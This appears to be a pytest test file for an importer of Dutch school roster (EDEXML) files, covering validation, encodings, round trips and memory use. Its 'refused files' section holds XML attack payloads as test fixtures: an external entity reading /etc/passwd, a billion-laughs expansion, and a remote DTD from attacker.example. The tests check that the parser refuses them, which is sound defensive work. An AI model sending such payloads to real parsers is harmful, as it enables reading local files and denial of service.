"""Import of EDEXML (Edustandaard EDEXML 2.x / UWLR) files: records, round trips and bad input."""

from __future__ import annotations

import random
import re
import string
import tempfile
import tracemalloc
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from regie.conftest import make_bsn
from regie.lib.identifiers import is_valid_bsn, is_valid_onderwijsnummer
from regie.roster.importing.edexml import parse_edexml as parse_in_dutch
from regie.roster.importing.edexml import write_edexml
from regie.roster.importing.records import (
    Gender,
    GroupKind,
    GroupRecord,
    ImportRefused,
    Limits,
    Problem,
    RosterExport,
    SchoolRecord,
    SchoolYearRecord,
    Sector,
    StaffRecord,
    StaffRole,
    StudentRecord,
)
from regie.roster.tests.exports import in_english, problems_in_english

PGN = make_bsn(random.Random(20260901))
# The same number with its last digit changed: 9 digits that fail the 11-proef.
BAD_PGN = next(
    candidate
    for digit in "0123456789"
    if not is_valid_bsn(candidate := PGN[:8] + digit) and not is_valid_onderwijsnummer(candidate)
)
# A made-up onderwijsnummer: 10 + 7 digits, and a last digit that passes its variant of the 11-proef.
ONDERWIJSNUMMER = next(
    number
    for digit in "0123456789"
    if is_valid_onderwijsnummer(number := "1012345" + "67"[:1] + digit)
)
NAMESPACE = "http://www.edustandaard.example/EDEXML/2.1"

GOOD = f"""\
<?xml version="1.0" encoding="UTF-8"?>
<EDEX>
  <school>
    <schooljaar>2026-2027</schooljaar>
    <brincode>12AB</brincode>
    <dependancecode>00</dependancecode>
    <aanmaakdatum>2026-09-01T08:00:00</aanmaakdatum>
    <auteur>Demo-LAS</auteur>
    <xsdversie>2.1</xsdversie>
    <schoolnaam>De Regenboog</schoolnaam>
    <sector>PO</sector>
  </school>
  <groepen>
    <groep key="G1"><naam>Groep 5a</naam><jaargroep>5</jaargroep><omschrijving/></groep>
    <groep key="G2"><naam>Groep 6b</naam><jaargroep>6</jaargroep></groep>
  </groepen>
  <samengestelde_groepen>
    <samengestelde_groep key="SG1"><naam>Plusklas</naam></samengestelde_groep>
  </samengestelde_groepen>
  <leerlingen>
    <leerling key="L1" eckid="https://ketenid.example/201703/0a1b2c">
      <achternaam>Vries</achternaam>
      <voorvoegsel>de</voorvoegsel>
      <roepnaam>Zoë</roepnaam>
      <voornamen>Zoë Anna</voornamen>
      <voorletters-1>Z.A.</voorletters-1>
      <geboortedatum>2017-03-14</geboortedatum>
      <geslacht>2</geslacht>
      <jaargroep>5</jaargroep>
      <bsn_ondwnr>{PGN}</bsn_ondwnr>
      <groep key="G1"/>
      <samengestelde_groepen><samengestelde_groep key="SG1"/></samengestelde_groepen>
    </leerling>
    <leerling key="L2">
      <achternaam>Jansen</achternaam>
      <roepnaam>Daan</roepnaam>
      <geboortedatum>2016-11-02</geboortedatum>
      <geslacht>1</geslacht>
      <jaargroep>6</jaargroep>
      <groep key="G2"/>
    </leerling>
  </leerlingen>
  <leerkrachten>
    <leerkracht key="T1">
      <achternaam>Bakker</achternaam>
      <voorvoegsel/>
      <roepnaam>Femke</roepnaam>
      <emailadres>f.bakker@school.example</emailadres>
      <groepen><groep key="G1"/><samengestelde_groep key="SG1"/></groepen>
    </leerkracht>
  </leerkrachten>
</EDEX>
"""
YEAR = "2026-2027"
EXPECTED = RosterExport(
    source_format="edexml",
    carries_guardians=False,  # EDEXML has no guardians, and lists teachers only
    carries_all_staff=False,
    schools=[SchoolRecord("12AB", "12AB", "", "De Regenboog", Sector.PO)],
    school_years=[SchoolYearRecord(YEAR, YEAR, date(2026, 8, 1), date(2027, 7, 31))],
    groups=[
        GroupRecord("G1", "12AB", "Groep 5a", GroupKind.GROUP, "5", YEAR),
        GroupRecord("G2", "12AB", "Groep 6b", GroupKind.GROUP, "6", YEAR),
        GroupRecord("SG1", "12AB", "Plusklas", GroupKind.COMPOSITE, "", YEAR),
    ],
    students=[
        StudentRecord(
            "L1", "12AB", "Zoë", "Zoë Anna", "de", "Vries", date(2017, 3, 14), Gender.FEMALE, "5",
            ("G1", "SG1"), eck_id="https://ketenid.example/201703/0a1b2c", pgn=PGN,
        ),
        StudentRecord(
            "L2", "12AB", "Daan", "", "", "Jansen", date(2016, 11, 2), Gender.MALE, "6", ("G2",)
        ),
    ],
    staff=[
        StaffRecord(
            "T1", "12AB", "Femke", "", "Bakker", "f.bakker@school.example",
            (StaffRole.TEACHER,), ("G1", "SG1"),
        )
    ],
)  # fmt: skip
LIMITS = Limits(max_upload_bytes=2**26, max_uncompressed_bytes=2**27, max_compression_ratio=200)


def parse_edexml(*args: Any, **kwargs: Any) -> RosterExport:
    """The parser, its problems in English (:func:`in_english`); a refusal's problem too."""
    try:
        return problems_in_english(parse_in_dutch(*args, **kwargs))
    except ImportRefused as refusal:
        raise ImportRefused(in_english(refusal.problem)) from None


def document(changes: dict[int, str] | None = None) -> str:
    """GOOD with whole lines (numbered from 1) replaced, so that line numbers stay put."""
    lines = GOOD.splitlines()
    for number, text in (changes or {}).items():
        lines[number - 1] = text
    return "\n".join(lines) + "\n"


def write(directory: Path, content: str | bytes, name: str = "export.xml") -> Path:
    path = directory / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    else:
        path.write_bytes(content)
    return path


def without_lines(export: RosterExport) -> RosterExport:
    """The export with every record's ``line`` (and the encodings) cleared, for comparing with
    built records."""
    return replace(
        export,
        encodings={},
        schools=[replace(record, line=None) for record in export.schools],
        school_years=[replace(record, line=None) for record in export.school_years],
        groups=[replace(record, line=None) for record in export.groups],
        students=[replace(record, line=None) for record in export.students],
        staff=[replace(record, line=None) for record in export.staff],
    )


def refusal(path: Path, limits: Limits | None = LIMITS) -> Problem:
    with pytest.raises(ImportRefused) as caught:
        parse_edexml(path, limits)
    assert PGN not in str(caught.value)
    assert str(caught.value) == str(caught.value.problem)
    return caught.value.problem


# -- good files --------------------------------------------------------------------------------


@pytest.mark.parametrize("element", ["bsn", "onderwijsnummer", "bsn_ondwnr"])
def test_it_reads_the_pgn_from_any_of_edexmls_elements_for_it(tmp_path: Path, element: str) -> None:
    number = ONDERWIJSNUMMER if element == "onderwijsnummer" else PGN
    content = document({30: f"<{element}>{number}</{element}><bsn_ondwnr-4>1234</bsn_ondwnr-4>"})

    export = parse_edexml(write(tmp_path, content), LIMITS)

    assert export.problems == []
    assert export.students[0].pgn == number


def test_it_reads_a_good_file_into_the_expected_records(tmp_path: Path) -> None:
    export = parse_edexml(write(tmp_path, GOOD))

    assert export.problems == []
    assert without_lines(export) == EXPECTED
    assert export.guardians == []


def test_it_gives_each_record_the_line_of_its_start_tag(tmp_path: Path) -> None:
    export = parse_edexml(write(tmp_path, GOOD), LIMITS)

    assert [school.line for school in export.schools] == [3]
    assert [group.line for group in export.groups] == [14, 15, 18]
    assert [student.line for student in export.students] == [21, 34]
    assert [staff.line for staff in export.staff] == [44]


def namespaced(content: str, prefix: str) -> str:
    """Put every element of ``content`` in the EDEXML namespace, with or without a prefix."""
    tagged = re.sub(r"<(/?)([A-Za-z_][\w.-]*)", rf"<\1{prefix}\2", content)
    declaration = f' xmlns{":" + prefix[:-1] if prefix else ""}="{NAMESPACE}"'
    extra = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x y"'
    return tagged.replace(f"<{prefix}EDEX>", f"<{prefix}EDEX{declaration}{extra}>", 1)


@pytest.mark.parametrize("prefix", ["", "edex:"])
def test_it_reads_a_namespaced_file_like_a_plain_one(tmp_path: Path, prefix: str) -> None:
    content = namespaced(GOOD, prefix)
    assert NAMESPACE in content

    export = parse_edexml(write(tmp_path, content), LIMITS)

    assert export.problems == []
    assert without_lines(export) == EXPECTED


def test_it_ignores_elements_it_does_not_read(tmp_path: Path) -> None:
    content = document(
        {
            13: "  <vestigingen><vestiging key='V1'><naam>Hoofd</naam></vestiging></vestigingen>"
            "<groepen>",
            22: "      <achternaam>Vries</achternaam><nationaliteit>0001</nationaliteit>"
            "<adres><straat>Laan</straat><groep key='X9'/></adres>",
        }
    )

    export = parse_edexml(write(tmp_path, content), LIMITS)

    assert export.problems == []
    assert without_lines(export) == EXPECTED


def test_it_reads_a_school_element_that_comes_last(tmp_path: Path) -> None:
    lines = GOOD.splitlines()
    school = "".join(line.strip() for line in lines[2:12])
    content = document({**dict.fromkeys(range(3, 13), ""), 51: "</leerkrachten>" + school})

    export = parse_edexml(write(tmp_path, content), LIMITS)

    assert export.problems == []
    assert without_lines(export) == EXPECTED


def test_it_reads_utf16_with_a_byte_order_mark(tmp_path: Path) -> None:
    content = document({1: '<?xml version="1.0" encoding="UTF-16"?>'})

    export = parse_edexml(write(tmp_path, content.encode("utf-16")), LIMITS)

    assert without_lines(export) == EXPECTED
    assert export.encodings == {"export.xml": "UTF-16"}


def test_it_reads_windows_1252_when_the_declaration_says_so(tmp_path: Path) -> None:
    content = document(
        {
            1: '<?xml version="1.0" encoding="windows-1252"?>',
            36: "      <roepnaam>Daniël</roepnaam><voornamen>Daniël Noël</voornamen>",
        }
    )
    path = write(tmp_path, content.encode("cp1252"))

    export = parse_edexml(path, LIMITS)

    assert export.problems == []
    assert [student.roepnaam for student in export.students] == ["Zoë", "Daniël"]
    assert export.students[1].voornamen == "Daniël Noël"


def test_it_accepts_a_utf8_byte_order_mark(tmp_path: Path) -> None:
    path = write(tmp_path, b"\xef\xbb\xbf" + GOOD.encode("utf-8"))

    export = parse_edexml(path, LIMITS)

    assert without_lines(export) == EXPECTED


@pytest.mark.parametrize("declaration", ['<?xml version="1.0"?>', ""])
def test_it_recognises_a_file_wholly_in_windows_1252_that_declares_no_encoding(
    tmp_path: Path, declaration: str
) -> None:
    """As for OneRoster CSV: UTF-8, or wholly Windows-1252, which the preview names."""
    content = document({1: declaration})
    path = write(tmp_path, content.encode("cp1252"))

    export = parse_edexml(path, LIMITS)

    assert export.problems == []
    assert without_lines(export) == EXPECTED
    assert export.encodings == {"export.xml": "Windows-1252"}


def test_a_utf8_file_names_no_encoding(tmp_path: Path) -> None:
    assert parse_edexml(write(tmp_path, GOOD), LIMITS).encodings == {}


def test_it_names_a_declared_encoding(tmp_path: Path) -> None:
    content = document({1: '<?xml version="1.0" encoding="ISO-8859-1"?>'})
    export = parse_edexml(write(tmp_path, content.encode("latin-1")), LIMITS)
    assert export.problems == []
    assert export.encodings == {"export.xml": "ISO-8859-1"}


def test_it_refuses_utf8_with_a_stray_windows_1252_byte_naming_its_line(tmp_path: Path) -> None:
    content = document(
        {1: '<?xml version="1.0"?>', 35: "<achternaam>Jansén</achternaam>".replace("é", "\x00")}
    )
    raw = content.encode("utf-8").replace(b"\x00", "é".encode("cp1252"))
    path = write(tmp_path, raw)

    problem = refusal(path)

    assert (problem.file, problem.line, problem.field) == ("export.xml", 35, None)
    assert "mixed" in problem.reason


def test_it_refuses_a_byte_order_mark_before_text_that_is_not_utf8(tmp_path: Path) -> None:
    content = document({1: '<?xml version="1.0"?>'})
    path = write(tmp_path, b"\xef\xbb\xbf" + content.encode("cp1252"))

    problem = refusal(path)

    assert problem.line == 24
    assert "byte order mark" in problem.reason


def test_it_refuses_a_file_that_declares_utf8_but_is_not(tmp_path: Path) -> None:
    path = write(tmp_path, GOOD.encode("cp1252"))

    problem = refusal(path)

    assert (problem.line, problem.reason) == (24, "the file declares UTF-8 but is not valid UTF-8")


@pytest.mark.parametrize(
    ("encoding", "reason"), [("x-klingon", "unknown encoding"), ("shift_jis", "multi-byte")]
)
def test_it_refuses_an_encoding_it_cannot_read(tmp_path: Path, encoding: str, reason: str) -> None:
    path = write(tmp_path, document({1: f'<?xml version="1.0" encoding="{encoding}"?>'}))

    problem = refusal(path)

    assert problem.line == 1
    assert reason in problem.reason


# -- round trip --------------------------------------------------------------------------------

NAME_CHARACTERS = string.ascii_letters + "éëïöüçñÉÖ '-&<>\""
names = st.text(NAME_CHARACTERS, min_size=1, max_size=16).filter(lambda text: text == text.strip())
optional_names = st.one_of(st.just(""), names)
keys = st.text(string.ascii_letters + string.digits + "-_.:&<'\"", min_size=1, max_size=10)


@st.composite
def exports(draw: st.DrawFn) -> RosterExport:
    brin = draw(st.from_regex(r"[0-9]{2}[A-Z]{2}", fullmatch=True))
    vestiging = draw(st.sampled_from(["", "01", "17"]))
    school_key = brin + vestiging
    first_year = draw(st.integers(2000, 2090))
    title = f"{first_year}-{first_year + 1}"
    year = SchoolYearRecord(title, title, date(first_year, 8, 1), date(first_year + 1, 7, 31))
    school = SchoolRecord(
        school_key, brin, vestiging, draw(optional_names), draw(st.none() | st.sampled_from(Sector))
    )
    group_keys = draw(st.lists(keys, unique=True, max_size=6))
    groups = [
        GroupRecord(
            key, school_key, draw(names), draw(st.sampled_from(GroupKind)),
            draw(st.sampled_from(["", "1", "8"])), title,
        )
        for key in group_keys
    ]  # fmt: skip
    groups.sort(key=lambda group: group.kind is GroupKind.COMPOSITE)  # EDEXML's order
    plain = [group.key for group in groups if group.kind is GroupKind.GROUP]
    composite = [group.key for group in groups if group.kind is GroupKind.COMPOSITE]

    def subset(options: list[str]) -> list[str]:
        return [key for key in options if draw(st.booleans())]

    students = [
        StudentRecord(
            key, school_key, draw(optional_names), draw(optional_names), draw(optional_names),
            draw(names), draw(st.none() | st.dates(date(2000, 1, 1), date(2025, 12, 31))),
            draw(st.sampled_from(Gender)), draw(st.sampled_from(["", "3", "8"])),
            tuple(subset(plain) + subset(composite)),
            eck_id=draw(st.sampled_from(["", "https://ketenid.example/1/" + "ab" * 32])),
            pgn=draw(st.sampled_from(["", make_bsn(random.Random(number))])),  # one per pupil
        )
        for number, key in enumerate(draw(st.lists(keys, unique=True, max_size=5)))
    ]  # fmt: skip
    staff = [
        StaffRecord(
            key, school_key, draw(optional_names), draw(optional_names), draw(names),
            draw(st.sampled_from(["", "leerkracht@school.example"])), (StaffRole.TEACHER,),
            tuple(draw(st.permutations(subset(plain + composite)))),
        )
        for key in draw(st.lists(keys, unique=True, max_size=3))
    ]  # fmt: skip
    return RosterExport(
        "edexml",
        [school],
        [year],
        groups=groups,
        students=students,
        staff=staff,
        carries_guardians=False,
        carries_all_staff=False,
    )


@settings(max_examples=60, deadline=None)
@given(export=exports())
def test_it_reads_back_what_it_writes(export: RosterExport) -> None:
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "roundtrip.xml"
        write_edexml(export, export.schools[0].key, path)

        parsed = parse_edexml(path, LIMITS)

    assert parsed.problems == []
    assert without_lines(parsed) == export


def test_it_writes_only_the_school_it_is_asked_for(tmp_path: Path) -> None:
    other = SchoolRecord("34CD01", "34CD", "01", "De Linde", Sector.PO)
    export = replace(
        EXPECTED,
        schools=[*EXPECTED.schools, other],
        groups=[*EXPECTED.groups, replace(EXPECTED.groups[0], key="X1", school_key=other.key)],
        students=[*EXPECTED.students, replace(EXPECTED.students[1], key="X2", school_key="34CD01")],
        staff=[
            *EXPECTED.staff,
            replace(EXPECTED.staff[0], key="X3", school_key=other.key, group_keys=("X1",)),
        ],
    )
    path = tmp_path / "school.xml"

    write_edexml(export, "34CD01", path)
    parsed = parse_edexml(path, LIMITS)

    assert [school.key for school in parsed.schools] == ["34CD01"]
    assert [group.key for group in parsed.groups] == ["X1"]
    assert [student.key for student in parsed.students] == ["X2"]
    assert [staff.key for staff in parsed.staff] == ["X3"]
    assert parsed.students[0].group_keys == ("G2",)  # G2 is the other school's: it dangles
    assert [problem.field for problem in parsed.problems] == ["leerling/groep/@key"]


# -- bad content -------------------------------------------------------------------------------

SECOND_SCHOOL = "  <school><schooljaar>2026-2027</schooljaar><brincode>12AB</brincode></school>"
TOO_LONG = "      <achternaam>" + "a" * 10_001 + "</achternaam>"
DEFINED = "refers to a group that the file does not define"
# (changes to GOOD, then the expected problems as (line, field, reason fragment))
BAD_CONTENT: dict[str, tuple[dict[int, str], list[tuple[int | None, str, str]]]] = {
    "missing brincode": ({5: ""}, [(3, "school/brincode", "required element is missing")]),
    "invalid BRIN": (
        {5: "<brincode>1234</brincode>"},
        [(5, "school/brincode", "a BRIN is 2 digits and 2 capital letters")],
    ),
    "bad dependancecode": (
        {6: "<dependancecode>A</dependancecode>"},
        [(6, "school/dependancecode", "a dependancecode is 2 digits")],
    ),
    "missing schooljaar": ({4: ""}, [(3, "school/schooljaar", "required element is missing")]),
    "bad schooljaar": (
        {4: "<schooljaar>2026-2028</schooljaar>"},
        [(4, "school/schooljaar", "two consecutive years, written YYYY-YYYY")],
    ),
    "unknown sector": ({11: "<sector>LO</sector>"}, [(11, "school/sector", "unknown sector")]),
    "no school": (
        dict.fromkeys(range(3, 13), ""),
        [(2, "school", "required element is missing")],
    ),
    "second school": (
        {13: SECOND_SCHOOL + "<groepen>"},
        [(13, "school", "a second school element: an EDEXML file describes one school")],
    ),
    "missing group name": (
        {15: '<groep key="G2"><jaargroep>6</jaargroep></groep>'},
        [(15, "groep/naam", "required element is missing")],
    ),
    "duplicate group key": (
        {15: '<groep key="G1"><naam>Groep 6b</naam></groep>'},
        [
            (15, "groep/@key", "duplicate key: the groep on line 14 has it too"),
            (40, "leerling/groep/@key", DEFINED),
        ],
    ),
    "group key reused by a samengestelde groep": (
        {18: '<samengestelde_groep key="G1"><naam>Plusklas</naam></samengestelde_groep>'},
        [
            (18, "samengestelde_groep/@key", "duplicate key: the groep on line 14 has it too"),
            (32, "leerling/samengestelde_groep/@key", DEFINED),
            (49, "leerkracht/groepen/samengestelde_groep/@key", DEFINED),
        ],
    ),
    "missing pupil key": (
        {34: "<leerling>"},
        [(34, "leerling/@key", "required attribute is missing or empty")],
    ),
    "duplicate pupil key": (
        {34: '<leerling key="L1">'},
        [(34, "leerling/@key", "duplicate key: the leerling on line 21 has it too")],
    ),
    "missing achternaam": ({35: ""}, [(34, "leerling/achternaam", "required element is missing")]),
    "empty achternaam": (
        {35: "<achternaam> </achternaam>"},
        [(35, "leerling/achternaam", "required element is empty")],
    ),
    "value too long": (
        {22: TOO_LONG},
        [(22, "leerling/achternaam", "the value is longer than 10,000 characters")],
    ),
    "surname of 201 characters": (
        {22: "<achternaam>" + "B" * 201 + "</achternaam>"},
        [(22, "leerling/achternaam", "longer than 200 characters, the most this field holds")],
    ),
    "given names of 10,000 characters": (
        {25: "<voornamen>" + "Pieter " * 1428 + "Jans</voornamen>"},
        [(25, "leerling/voornamen", "longer than 200 characters, the most this field holds")],
    ),
    "birth date in the future": (
        {37: "<geboortedatum>2999-11-02</geboortedatum>"},
        [(37, "leerling/geboortedatum", "a birth date in the future")],
    ),
    "dangling group reference": ({40: '<groep key="G9"/>'}, [(40, "leerling/groep/@key", DEFINED)]),
    "dangling staff reference": (
        {49: '<groepen><groep key="G1"/><samengestelde_groep key="SG7"/></groepen>'},
        [(49, "leerkracht/groepen/samengestelde_groep/@key", DEFINED)],
    ),
    "group of the wrong kind": (
        {40: '<groep key="SG1"/>'},
        [(40, "leerling/groep/@key", "refers to a samengestelde_groep where a groep belongs")],
    ),
    "group listed twice": (
        {32: '<samengestelde_groepen><samengestelde_groep key="SG1"/>'
         '<samengestelde_groep key="SG1"/></samengestelde_groepen>'},
        [(32, "leerling/samengestelde_groep/@key", "the same group is listed twice")],
    ),
    "reference without key": (
        {40: "<groep/>"},
        [(40, "leerling/groep/@key", "required attribute is missing or empty")],
    ),
    "Dutch date": (
        {27: "<geboortedatum>14-03-2017</geboortedatum>"},
        [(27, "leerling/geboortedatum", "not a date in the form YYYY-MM-DD")],
    ),
    "impossible date": (
        {37: "<geboortedatum>2017-02-30</geboortedatum>"},
        [(37, "leerling/geboortedatum", "not a date in the form YYYY-MM-DD")],
    ),
    "pupil of too many elements": (
        {35: "<achternaam>Jansen</achternaam>" + "<x/>" * 5_000},
        [(34, "leerling", "the element holds more than 5,000 elements")],
    ),
    "unknown gender": ({28: "<geslacht>3</geslacht>"}, [(28, "leerling/geslacht", "unknown gender")]),
    "PGN failing the 11-proef": (
        {30: f"<bsn_ondwnr>{BAD_PGN}</bsn_ondwnr>"},
        [(30, "leerling/bsn_ondwnr", "fails the BSN 11-proef")],
    ),
    "PGN of 8 digits": (
        {30: f"<bsn_ondwnr>{PGN[1:]}</bsn_ondwnr>"},
        [(30, "leerling/bsn_ondwnr", "a PGN is exactly 9 digits")],
    ),
    "PGN with letters": (
        {30: f"<bsn_ondwnr>{PGN[:4]}AB{PGN[6:]}</bsn_ondwnr>"},
        [(30, "leerling/bsn_ondwnr", "a PGN is exactly 9 digits")],
    ),
    "ECK iD that is not a URI": (
        {21: f'<leerling key="L1" eckid="{PGN}">'},
        [(21, "leerling/@eckid", "an ECK iD is an https URI")],
    ),
    "BSN and onderwijsnummer": (
        {30: f"<bsn>{PGN}</bsn><onderwijsnummer>{ONDERWIJSNUMMER}</onderwijsnummer>"},
        [(30, "leerling/onderwijsnummer", "more than one PGN")],
    ),
    "bsn_ondwnr and onderwijsnummer": (
        {30: f"<bsn_ondwnr>{PGN}</bsn_ondwnr>",
         31: f"<onderwijsnummer>{ONDERWIJSNUMMER}</onderwijsnummer><groep key=\"G1\"/>"},
        [(31, "leerling/onderwijsnummer", "more than one PGN")],
    ),
    "bsn_ondwnr twice": (
        {30: f"<bsn_ondwnr>{PGN}</bsn_ondwnr><bsn_ondwnr>{PGN}</bsn_ondwnr>"},
        [(30, "leerling/bsn_ondwnr", "more than one PGN")],
    ),
    "onderwijsnummer failing its 11-proef": (
        {30: f"<onderwijsnummer>{ONDERWIJSNUMMER[:8]}{(int(ONDERWIJSNUMMER[8]) + 1) % 10}"
         "</onderwijsnummer>"},
        [(30, "leerling/onderwijsnummer", "11-proef")],
    ),
    "the same PGN for two pupils": (
        {39: f"<jaargroep>6</jaargroep><bsn>{PGN}</bsn>"},
        [(39, "leerling/bsn", "the same BSN or onderwijsnummer as the pupil on line 30")],
    ),
    "ECK iD without host or path": (
        {21: '<leerling key="L1" eckid="https://">'},
        [(21, "leerling/@eckid", "an ECK iD is an https URI")],
    ),
    "bad e-mail address": (
        {48: f"<emailadres>{PGN}</emailadres>"},
        [(48, "leerkracht/emailadres", "not an e-mail address")],
    ),
}  # fmt: skip


@pytest.mark.parametrize(("changes", "expected"), list(BAD_CONTENT.values()), ids=list(BAD_CONTENT))
def test_it_names_file_line_field_and_reason_of_each_problem(
    tmp_path: Path, changes: dict[int, str], expected: list[tuple[int | None, str, str]]
) -> None:
    export = parse_edexml(write(tmp_path, document(changes), "las.xml"), LIMITS)

    found = [(problem.file, problem.line, problem.field) for problem in export.problems]
    assert found == [("las.xml", line, field) for line, field, _ in expected]
    for problem, (_, _, reason) in zip(export.problems, expected, strict=True):
        assert reason in problem.reason
        for number in (PGN, BAD_PGN, PGN[1:], PGN[:4]):
            assert number not in str(problem)
        assert "Vries" not in str(problem)


def test_it_stops_listing_after_a_thousand_problems_and_counts_the_rest(tmp_path: Path) -> None:
    pupils = "".join(
        f'<leerling key="P{number}"><achternaam>Jansen</achternaam><geslacht>7</geslacht>'
        "</leerling>\n"
        for number in range(1_500)
    )
    content = document({20: "<leerlingen>" + pupils})

    export = parse_edexml(write(tmp_path, content), LIMITS)

    assert len(export.problems) == 1_001
    assert {problem.field for problem in export.problems[:1_000]} == {"leerling/geslacht"}
    assert str(export.problems[-1]) == "export.xml: and 500 more problems"


# -- refused files -----------------------------------------------------------------------------

XXE = """<?xml version="1.0"?>
<!DOCTYPE EDEX [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<EDEX><school><schoolnaam>&e;</schoolnaam></school></EDEX>
"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<EDEX>&lol4;</EDEX>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE EDEX [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<EDEX/>
"""
DTD_ONLY = '<?xml version="1.0"?>\n\n<!DOCTYPE EDEX SYSTEM "edexml.dtd">\n<EDEX/>\n'
ENTITIES = "the XML declares a DTD or entities, which are not allowed"


@pytest.mark.parametrize(
    ("content", "line"),
    [(XXE, 2), (BILLION_LAUGHS, 2), (PARAMETER_ENTITY, 2), (DTD_ONLY, 3)],
    ids=["external entity", "billion laughs", "parameter entity", "external DTD"],
)
def test_it_refuses_a_dtd_or_entities(tmp_path: Path, content: str, line: int) -> None:
    problem = refusal(write(tmp_path, content))

    assert problem == Problem("export.xml", line, None, ENTITIES)


@pytest.mark.parametrize(
    ("changes", "line", "reason"),
    [
        ({30: f"<bsn_ondwnr>{PGN}</bsn_ondwrn>"}, 30, "mismatched tag"),
        ({22: "<achternaam>Vries & Zn</achternaam>"}, 22, "not well-formed (invalid token)"),
        ({22: "<achternaam>&nbsp;</achternaam>"}, 22, "undefined entity"),
        ({52: "</EDEX><EDEX/>"}, 52, "junk after document element"),
        ({51: "", 52: ""}, 53, "no element found"),
    ],
    ids=["mismatched tag", "bare ampersand", "undefined entity", "two roots", "truncated"],
)
def test_it_refuses_malformed_xml_with_the_parsers_line(
    tmp_path: Path, changes: dict[int, str], line: int, reason: str
) -> None:
    problem = refusal(write(tmp_path, document(changes)))

    assert (problem.line, problem.field) == (line, None)
    # expat's own explanation (``reason``) is English: the importer names the line only.
    assert problem.reason == "the file is not well-formed XML"
    assert reason not in problem.reason


def test_it_refuses_another_root_element(tmp_path: Path) -> None:
    content = '<?xml version="1.0"?>\n\n<OneRoster><school/></OneRoster>\n'

    problem = refusal(write(tmp_path, content))

    assert problem == Problem(
        "export.xml", 3, None, "not an EDEXML file: the root element is OneRoster"
    )


def test_it_refuses_an_empty_file(tmp_path: Path) -> None:
    problem = refusal(write(tmp_path, b""))

    assert problem == Problem("export.xml", None, None, "the file is empty")


def test_it_refuses_a_file_of_white_space(tmp_path: Path) -> None:
    problem = refusal(write(tmp_path, b" \r\n\t\n"))

    assert problem.reason == "the file is empty: it holds only white space"


@pytest.mark.parametrize(
    "start", [b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b"%PDF-1.7\n", b"<\x01\x00\x00"]
)
def test_it_refuses_binary_garbage(tmp_path: Path, start: bytes) -> None:
    garbage = start + random.Random(start).randbytes(4096)

    problem = refusal(write(tmp_path, garbage))

    assert problem == Problem("export.xml", None, None, "not an XML file")


def test_it_refuses_a_file_of_a_gigabyte_by_its_size(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as huge:
        huge.write(b"<EDEX>")
        huge.truncate(2**30)

    problem = refusal(path, limits=None)

    assert problem.file == "huge.xml"
    assert "1,073,741,824 bytes" in problem.reason
    assert "at most 268,435,456" in problem.reason


def test_it_refuses_a_file_just_over_the_limit(tmp_path: Path) -> None:
    path = write(tmp_path, GOOD)
    limits = replace(LIMITS, max_upload_bytes=path.stat().st_size - 1)

    problem = refusal(path, limits)

    assert problem.reason.startswith(f"the file is {path.stat().st_size:,} bytes")


# -- memory ------------------------------------------------------------------------------------


def large_export(pupils: int) -> RosterExport:
    rng = random.Random(pupils)
    first = ["Daan", "Zoë", "Sem", "Noor", "Lucas", "Emma", "Finn", "Julia"]
    last = [("", "Jansen"), ("de", "Vries"), ("van", "Dijk"), ("", "Bakker"), ("", "Visser")]
    groups = [
        GroupRecord(f"G{number}", "12AB", f"Groep {number}", GroupKind.GROUP, str(number), YEAR)
        for number in range(1, 9)
    ]
    students = []
    for number in range(pupils):
        voorvoegsel, achternaam = rng.choice(last)
        roepnaam = rng.choice(first)
        students.append(
            StudentRecord(
                f"L{number:06}", "12AB", roepnaam, roepnaam, voorvoegsel, achternaam,
                date(2014 + number % 8, 1 + number % 12, 1 + number % 28), Gender.FEMALE,
                str(1 + number % 8), (f"G{1 + number % 8}",),
                eck_id=f"https://ketenid.example/1/{rng.randbytes(32).hex()}",
            )
        )  # fmt: skip
    return replace(EXPECTED, groups=groups, students=students, staff=[])


def test_it_streams_a_large_file_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "large.xml"
    write_edexml(large_export(20_000), "12AB", path)
    size = path.stat().st_size

    tracemalloc.start()
    try:
        export = parse_edexml(path, LIMITS)
        retained, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert export.problems == []
    assert len(export.students) == 20_000
    # The records are the result. On top of them the parser needs a chunk of the file, one
    # record and its key index, never the document: holding the document as an ElementTree
    # takes about seven times the file's size.
    assert peak - retained < size / 5
    assert peak < size


def test_the_records_hold_no_pgn_in_their_repr(tmp_path: Path) -> None:
    export = parse_edexml(write(tmp_path, GOOD), LIMITS)

    assert export.students[0].pgn == PGN
    assert PGN not in repr(export)
